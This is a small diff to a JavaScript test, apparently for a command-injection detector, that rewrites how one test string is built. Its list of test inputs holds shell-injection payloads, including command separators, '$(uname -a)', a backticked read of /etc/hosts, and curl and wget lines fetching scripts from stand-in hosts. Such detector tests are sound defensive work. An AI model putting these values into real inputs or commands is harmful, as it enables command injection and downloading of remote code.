@@ -14,7 +14,7 @@ test('injection shapes are found', () => {
     ';id',
     '127.0.0.1|whoami',
     'x && curl http://198.51.100.7/a.sh',
-    'x%0a'.replace('%0a', '\n') + 'wget http://a.example/x',
+    'x\nwget http://a.example/x',
     '$(uname -a)',
     '`cat /etc/hosts`',
     '<(cat file)',
